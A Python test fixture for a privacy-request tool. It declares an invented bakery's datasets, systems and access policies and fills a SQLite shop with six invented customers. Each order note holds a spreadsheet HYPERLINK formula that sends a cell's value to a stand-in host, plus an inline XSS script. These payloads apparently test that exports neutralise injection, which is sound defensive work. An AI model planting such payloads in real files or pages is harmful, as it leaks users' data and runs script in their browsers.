"""What an invented bakery declares, and who its customers are. Everybody is invented, and so is every value."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

SETTINGS = """center: 127.0.0.1:0
mail: {{host: 127.0.0.1, port: {port}, security: none, sender: privacy@example.com}}
privacy:
  organization: Example Bakery
  contact: privacy@example.com
  country: DE
  state: BE
  time_zone: Europe/Berlin
"""
SCHEMA = """
dataset:
  - fides_key: customers_vault
    name: Customers
    description: Who our customers are.
    collections:
      - name: people
        description: Customers, one record each.
        fides_meta: {privet: {subject: self, about: [customer]}}
        fields:
          - {name: name, data_categories: [user.name], fides_meta: {privet: {type: person.full_name}}}
          - name: email
            data_categories: [user.contact.email]
            fides_meta: {identity: email, privet: {type: contact.email, index: [exact], unique: true}}
          - name: phone
            data_categories: [user.contact.phone_number]
            fides_meta: {privet: {type: contact.phone}}
      - name: calls
        description: What was said on the phone.
        fides_meta: {privet: {subject: via person}}
        fields:
          - {name: person, fides_meta: {privet: {references: people.id}}}
          - {name: note, data_categories: [user.content], fides_meta: {privet: {type: string, keep: sealed}}}
"""
POLICY = """
role support
allow read, search on people.*, calls.* with redaction = plain_text unsafe for essential.service

role marketing
allow read, search on people.* with redaction = plain_text unsafe for marketing.advertising
"""
MANIFEST = """
organization:
  - fides_key: example_bakery
    name: Example Bakery
    controller: {name: Example Bakery GmbH, address: "1 Sample Street, 10115 Berlin", email: privacy@example.com}
    data_protection_officer: {name: Dora Sample, email: dpo@example.com}
    meta: {privet: {laws: [gdpr, ccpa]}}
dataset:
  - fides_key: shop_db
    name: Shop
    description: What was ordered in the web shop.
    collections:
      - name: customers
        description: Accounts of the web shop.
        fields:
          - {name: id, data_categories: [user.unique_id], fides_meta: {primary_key: true, data_type: integer}}
          - {name: email, data_categories: [user.contact.email], fides_meta: {data_type: string, identity: email}}
          - {name: name, data_categories: [user.name], fides_meta: {data_type: string}}
      - name: orders
        description: What was ordered, and where it went.
        fields:
          - {name: id, data_categories: [system.operations], fides_meta: {primary_key: true, data_type: integer}}
          - name: customer_id
            data_categories: [user.unique_id]
            fides_meta:
              data_type: integer
              references: [{dataset: shop_db, field: customers.id, direction: from}]
          - {name: address, data_categories: [user.contact.address], fides_meta: {data_type: string}}
          - {name: note, data_categories: [user.content], fides_meta: {data_type: string}}
  - fides_key: newsletter
    name: Newsletter
    collections:
      - name: readers
        description: Who gets our letters.
        fields:
          - {name: number, data_categories: [system.operations], fides_meta: {primary_key: true, data_type: integer}}
          - {name: email, data_categories: [user.contact.email], fides_meta: {data_type: string, identity: email}}
          - {name: likes, data_categories: [user.behavior], fides_meta: {data_type: string}}
system:
  - fides_key: customer_care
    name: Customer care
    system_type: Service
    dataset_references: [customers_vault]
    does_international_transfers: false
    uses_profiling: false
    ingress: [{fides_key: user, type: user}]
    privacy_declarations:
      - name: Answer customers
        data_categories: [user.name, user.contact, user.content]
        data_use: essential.service
        data_subjects: [customer]
        legal_basis_for_processing: Contract
        retention_period: 3 years after the last order
  - fides_key: web_shop
    name: Web shop
    system_type: Application
    dataset_references: [shop_db]
    does_international_transfers: false
    uses_profiling: false
    ingress: [{fides_key: user, type: user}]
    egress: [{fides_key: parcels, type: system}]
    privacy_declarations:
      - name: Bake and send orders
        data_categories: [user.name, user.contact, user.content, user.unique_id]
        data_use: essential.service
        data_subjects: [customer]
        legal_basis_for_processing: Contract
        retention_period: 10 years, as tax law asks
  - fides_key: letters
    name: Newsletter
    system_type: Service
    dataset_references: [newsletter]
    does_international_transfers: true
    legal_basis_for_transfers: [SCCs]
    uses_profiling: true
    ingress: [{fides_key: user, type: user}]
    privacy_declarations:
      - name: Tell of new bread
        data_categories: [user.contact.email, user.behavior]
        data_use: marketing.advertising
        data_subjects: [customer]
        legal_basis_for_processing: Consent
        retention_period: until she takes it back
  - {fides_key: parcels, name: Sample Parcels Ltd, system_type: Third Party, privacy_declarations: []}
"""
SIGNING_KEY = "an invented key of the newsletter's service"
FORMULA = '=HYPERLINK("http://192.0.2.1/"&A1)'
SCRIPT = "<script>document.title='caught'</script>"


@dataclass(frozen=True)
class Person:
    """Somebody invented. `mark`: stands in each value that is hers alone."""

    number: int
    first: str

    @property
    def mark(self) -> str:
        return f"Zq{self.first.lower()}zq"

    @property
    def name(self) -> str:
        return f"{self.first} {self.mark}"

    @property
    def email(self) -> str:
        return f"{self.first.lower()}@example.com"

    @property
    def phone(self) -> str:
        return f"+120255501{self.number:02}"

    @property
    def alone(self) -> tuple[str, ...]:
        """Return what is hers alone, in any letter case."""
        return self.mark.lower(), self.email, self.phone


ADA, BOB, CLEO, DORA, EVA, FINN = PEOPLE = tuple(
    Person(number, first) for number, first in enumerate(("Ada", "Bob", "Cleo", "Dora", "Eva", "Finn"), 1)
)


def plant(path: Path) -> None:
    with closing(sqlite3.connect(path)) as shop, shop:
        shop.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, email TEXT, name TEXT)")
        shop.execute(
            "CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL, address TEXT, note TEXT)"
        )
        for who in PEOPLE:
            shop.execute("INSERT INTO customers VALUES (?, ?, ?)", (who.number, who.email, who.name))
            for nth in (1, 2):
                note = f"{FORMULA} {SCRIPT} share with {other(who).email}, {who.mark}"
                row = (who.number * 10 + nth, who.number, f"{who.mark} Lane {nth}", note)
                shop.execute("INSERT INTO orders VALUES (?, ?, ?, ?)", row)


def other(who: Person) -> Person:
    """Return of whom the texts of somebody tell, too: Bob, and Cleo in his own."""
    return CLEO if who == BOB else BOB
